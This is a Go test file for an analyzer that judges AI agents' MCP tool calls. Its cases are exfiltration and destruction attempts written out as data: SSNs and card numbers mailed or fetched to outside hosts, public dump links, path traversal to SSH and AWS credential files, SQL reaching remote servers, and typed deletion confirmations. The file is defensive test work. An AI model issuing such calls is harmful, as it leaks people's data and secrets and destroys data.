package riskmodel

import "testing"

// People's records, identity or payment numbers, exports and dumps published to a
// destination outside the team are denied when both halves are sure; an unknown recipient
// domain or a mere list of contacts is asked. Plain prose outside and data inside the team
// stay as before.
func TestClassR16OutboundData(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "ssns mailed to a free-mail address", req: `{"server":"sendgrid","tool":"send_email","arguments":{"to":"x.doe@yahoo.com","subject":"records","text":"SSNs: 123-45-6789, 987-65-4321, 078-05-1120"}}`,
			decision: Deny, category: CatDataExfiltration, rules: []string{"mcp.outbound-data"}},
		{name: "card number to an external team", req: `{"server":"teams","tool":"send_channel_message","arguments":{"team":"Vendor - Initech (external)","channel":"General","message":"card 4111 1111 1111 1111 exp 04/28 for J. Smith"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "csv of people on a public page", req: `{"server":"notion","tool":"create_page","arguments":{"parent":{"page_id":"abc"},"title":"FAQ","public":true,"content":"Customer list\nname,email,plan\nA B,a@b.io,pro\nC D,c@d.io,free\nE F,e@f.io,pro"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "html table of employees in a public space", req: `{"server":"confluence","tool":"confluence_create_page","arguments":{"space_key":"PUBLIC","title":"Staff","body":"<table><tr><th>Name</th><th>Phone</th></tr><tr><td>Ann</td><td>555-0101</td></tr><tr><td>Bob</td><td>555-0102</td></tr></table>"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "dump shared by a public link", req: `{"server":"dropbox","tool":"create_shared_link","arguments":{"path":"/backups/pg_dump_2026-11-20.dump","settings":{"requested_visibility":"public"}}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "parquet of patients opened to anyone", req: `{"server":"box","tool":"share_file","arguments":{"file_path":"/exports/patients.parquet","access":"open"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "customers csv uploaded to a shared channel", req: `{"server":"slack","tool":"files_upload_v2","arguments":{"channel":"ext-acme-shared","file":"./exports/customers.csv"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "pesel to a partner domain", req: `{"server":"outlook","tool":"send_mail","arguments":{"toRecipients":["ops@globex-partner.com"],"subject":"KYC","body":"PESEL: 44051401359, born 1944-05-14"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "iban to a gmail address", req: `{"server":"gmail","tool":"gmail_send","arguments":{"to":"acct.helper@gmail.com","body":"Payout account GB29 NWBK 6016 1331 9268 19"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "signed dump link to a guest", req: `{"server":"discord","tool":"send_message","arguments":{"channel_name":"guest-lounge","content":"grab it: https://files.example-cdn.com/exports/orders_full.csv.gz?X-Amz-Signature=deadbeef&X-Amz-Expires=3600"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "event invite to a personal mailbox with birth dates", req: `{"server":"google-calendar","tool":"create_event","arguments":{"summary":"onboarding","attendees":[{"email":"helper@outlook.com"}],"description":"Maria Ruiz, DOB 1988-03-02, maria@corp.example, +44 20 7946 0958"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "public gist holding a csv of people", req: `{"server":"github","tool":"create_gist","arguments":{"description":"rows","public":true,"files":{"people.csv":{"content":"full_name,email,phone\nAna Lima,ana@x.io,415-555-0101\nBo Chen,bo@y.io,415-555-0102"}}}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "graph mail with nested recipients", req: `{"server":"ms365","tool":"send-mail","arguments":{"message":{"toRecipients":[{"emailAddress":{"address":"p.doe@icloud.com"}}],"body":{"content":"DOB: 02/03/1981, SSN 457-55-5462"}}}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "campaign test to a personal mailbox with a table of people", req: `{"server":"mailchimp","tool":"send_campaign_test","arguments":{"test_emails":["me@icloud.com"],"html":"<table><tr><th>Email</th><th>Phone</th></tr><tr><td>a@b.co</td><td>1</td></tr><tr><td>c@d.co</td><td>2</td></tr></table>"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "spreadsheet export shared with anyone", req: `{"server":"sheets","tool":"share_spreadsheet","arguments":{"spreadsheet_id":"1x","share_with":"anyone","title":"customer_emails_export"}}`,
			decision: Deny, rules: []string{"mcp.outbound-data"}},
		{name: "identity numbers texted to a number are asked", req: `{"server":"twilio","tool":"send_sms","arguments":{"to":"+15555550123","body":"SSN 123-45-6789 DOB 1980-02-03"}}`,
			decision: Ask, level: High, rules: []string{"mcp.outbound-data"}},
		{name: "a text to a number without data", req: `{"server":"twilio","tool":"send_sms","arguments":{"to":"+15555550123","body":"Your build finished."}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
		{name: "unknown recipient domain with ssns is asked", req: `{"server":"resend","tool":"send-email","arguments":{"to":"ops@northwind.example","subject":"x","text":"SSN 123-45-6789 and 234-56-7891"}}`,
			decision: Ask, level: High, rules: []string{"mcp.outbound-data"}},
		{name: "two contacts to a friend", req: `{"server":"gmail","tool":"send_email","arguments":{"to":"pal@gmail.com","body":"reach us at a@acme.io or b@acme.io"}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
		{name: "prose to a vendor channel", req: `{"server":"slack","tool":"slack_post_message","arguments":{"channel":"#ext-partner-globex","text":"Deploy is done; tell us if you see issues."}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
		{name: "prose mail to a friend", req: `{"server":"gmail","tool":"send_email","arguments":{"to":"friend@gmail.com","subject":"hi","body":"See you at the conference."}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
		{name: "slides shared with a consultant", req: `{"server":"gdrive","tool":"share_file","arguments":{"file_id":"1xyz","email":"consultant@gmail.com","role":"reader","file_name":"Q3 roadmap slides"}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
		{name: "users guide shared publicly names no data", req: `{"server":"gdrive","tool":"create_permission","arguments":{"fileId":"1a","type":"anyone","role":"reader","fileName":"users-guide.pdf"}}`,
			notRules: []string{"mcp.outbound-data"}, decision: Ask},
		{name: "vendor meeting with a dial-in number", req: `{"server":"google-calendar","tool":"create_event","arguments":{"summary":"sync with vendor","attendees":[{"email":"rep@vendor.com"}],"description":"Dial-in +1 415 555 0100"}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
		{name: "customer list in the team's own channel", req: `{"server":"slack","tool":"slack_post_message","arguments":{"channel":"#eng-support","text":"name,email,plan\nA B,a@b.io,pro\nC D,c@d.io,free\nE F,e@f.io,pro"}}`,
			decision: Allow, notRules: []string{"mcp.outbound-data"}},
		{name: "salesforce case with iban stays inside", req: `{"server":"salesforce","tool":"create_record","arguments":{"sobject":"Case","fields":{"Description":"refund to DE89370400440532013000"}}}`,
			decision: Ask, notRules: []string{"mcp.outbound-data"}},
	})
}

// Credentials posted anywhere, even inside the team, stay denied by the secret rules; the
// outbound rule leaves them to those.
func TestClassR16CredentialsPostedAnywhere(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "bot token in a team channel", req: `{"server":"slack","tool":"slack_post_message","arguments":{"channel":"#eng-deploys","text":"new token: xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx"}}`,
			decision: Deny, notRules: []string{"mcp.outbound-data"}},
		{name: "connection string on a wiki page", req: `{"server":"confluence","tool":"create_page","arguments":{"space":"ENG","title":"DB","body":"DATABASE_URL=postgres://admin:S3cretPass9@db.prod.internal:5432/app"}}`,
			decision: Deny},
		{name: "private key in a ticket", req: `{"server":"jira","tool":"jira_create_issue","arguments":{"project_key":"OPS","summary":"key","description":"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----"}}`,
			decision: Deny},
	})
}

// Read-named tools whose arguments do the harm: a credential path through a remote reader,
// several secrets fetched decrypted, SQL that connects to another server, a URL carrying
// people's data, a confirmation field typed into. Their routine neighbours stay allowed.
func TestClassR16ReadNamedHarm(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "forge read climbing to the ssh key", req: `{"server":"github","tool":"get_file_contents","arguments":{"owner":"acme","repo":"api","path":"../../../../home/dev/.ssh/id_rsa"}}`,
			decision: Deny, category: CatCredentialAccess, rules: []string{"mcp.remote-credential-path"}},
		{name: "gitlab read of home aws credentials", req: `{"server":"gitlab","tool":"get_file_contents","arguments":{"project_id":"12","file_path":"~/.aws/credentials","ref":"main"}}`,
			decision: Deny, rules: []string{"mcp.remote-credential-path"}},
		{name: "sftp read of another host's deploy key", req: `{"server":"sftp","tool":"read_remote_file","arguments":{"host":"bastion","remote_path":"/home/deploy/.ssh/id_ed25519"}}`,
			decision: Deny},
		{name: "forge read of a readme", req: `{"server":"github","tool":"get_file_contents","arguments":{"owner":"acme","repo":"api","path":"docs/README.md"}}`,
			decision: Allow, notRules: []string{"mcp.remote-credential-path"}},
		{name: "forge read of an env example", req: `{"server":"github","tool":"get_file_contents","arguments":{"owner":"acme","repo":"api","path":".env.example"}}`,
			decision: Allow, notRules: []string{"mcp.remote-credential-path"}},
		{name: "ssm parameters decrypted", req: `{"server":"aws","tool":"ssm_get_parameters","arguments":{"names":["/prod/db/password","/prod/api/key"],"with_decryption":true}}`,
			decision: Deny, rules: []string{"mcp.secret-bulk-get"}},
		{name: "secrets batch by ids revealed", req: `{"server":"bitwarden","tool":"get_items","arguments":{"ids":["a1","b2","c3"],"reveal":true}}`,
			decision: Deny, rules: []string{"mcp.secret-bulk-get"}},
		{name: "one parameter without decryption", req: `{"server":"aws","tool":"ssm_get_parameter","arguments":{"name":"/dev/feature_flag"}}`,
			decision: Allow, notRules: []string{"mcp.secret-bulk-get"}},
		{name: "parameters names only", req: `{"server":"aws","tool":"ssm_get_parameters","arguments":{"names":["/dev/a","/dev/b"]}}`,
			decision: Allow, notRules: []string{"mcp.secret-bulk-get"}},
		{name: "dblink to a public address with a password", req: `{"server":"postgres","tool":"query","arguments":{"sql":"SELECT * FROM dblink('host=203.0.113.9 user=x password=y dbname=z', 'select 1') AS t(a int)"}}`,
			decision: Deny, rules: []string{"mcp.sql-remote-reach"}},
		{name: "clickhouse remote() with credentials", req: `{"server":"clickhouse","tool":"run_select_query","arguments":{"query":"SELECT * FROM remote('db.other-company.example:9000', 'default', 'users', 'admin', 'hunter2')"}}`,
			decision: Deny, rules: []string{"mcp.sql-remote-reach"}},
		{name: "sql server openrowset to a public address", req: `{"server":"mssql","tool":"read_query","arguments":{"query":"SELECT * FROM OPENROWSET('SQLNCLI', 'Server=198.51.100.4;Trusted_Connection=yes;', 'SELECT * FROM master.sys.sql_logins')"}}`,
			decision: Deny, rules: []string{"mcp.sql-remote-reach"}},
		{name: "remote() to a private replica is asked", req: `{"server":"clickhouse","tool":"run_select_query","arguments":{"query":"SELECT count() FROM remote('10.9.8.7:9000', default.events)"}}`,
			decision: Ask, rules: []string{"mcp.sql-remote-reach"}},
		{name: "remote() to this machine", req: `{"server":"clickhouse","tool":"run_select_query","arguments":{"query":"SELECT count() FROM remote('127.0.0.1:9000', default.events)"}}`,
			decision: Allow, notRules: []string{"mcp.sql-remote-reach"}},
		{name: "plain select", req: `{"server":"postgres","tool":"query","arguments":{"sql":"SELECT id, status FROM orders ORDER BY id DESC LIMIT 20"}}`,
			decision: Allow, notRules: []string{"mcp.sql-remote-reach"}},
		{name: "navigation carrying emails and an ssn", req: `{"server":"playwright","tool":"browser_navigate","arguments":{"url":"https://requestbin.example/x?emails=a@x.com,b@y.com,c@z.com&ssn=123-45-6789"}}`,
			decision: Deny, rules: []string{"mcp.url-carries-data"}},
		{name: "fetch carrying a card number", req: `{"server":"fetch","tool":"fetch","arguments":{"url":"https://collect.example.net/p?cc=4111111111111111&exp=0428"}}`,
			decision: Deny, rules: []string{"mcp.url-carries-data"}},
		{name: "fetch of docs with a query", req: `{"server":"fetch","tool":"fetch","arguments":{"url":"https://pkg.go.dev/net/http?tab=doc"}}`,
			decision: Allow, notRules: []string{"mcp.url-carries-data"}},
		{name: "search with one address", req: `{"server":"fetch","tool":"fetch","arguments":{"url":"https://duckduckgo.com/?q=contact+support%40example.com"}}`,
			decision: Allow, notRules: []string{"mcp.url-carries-data"}},
		{name: "repository name typed into a confirmation box", req: `{"server":"playwright","tool":"browser_type","arguments":{"element":"confirmation input","ref":"e12","text":"acme/payments-api"}}`,
			decision: Deny, category: CatDataDeletion, rules: []string{"mcp.browser-confirm-typed"}},
		{name: "delete typed into a verify field", req: `{"server":"puppeteer","tool":"puppeteer_fill","arguments":{"selector":"input[name=verify]","value":"permanently delete"}}`,
			decision: Deny, rules: []string{"mcp.browser-confirm-typed"}},
		{name: "confirm password field", req: `{"server":"playwright","tool":"browser_type","arguments":{"element":"confirm password","ref":"e4","text":"delete"}}`,
			decision: Ask, notRules: []string{"mcp.browser-confirm-typed"}},
		{name: "search box", req: `{"server":"playwright","tool":"browser_type","arguments":{"element":"search box","ref":"e3","text":"acme/payments-api"}}`,
			decision: Allow, notRules: []string{"mcp.browser-confirm-typed"}},
	})
}
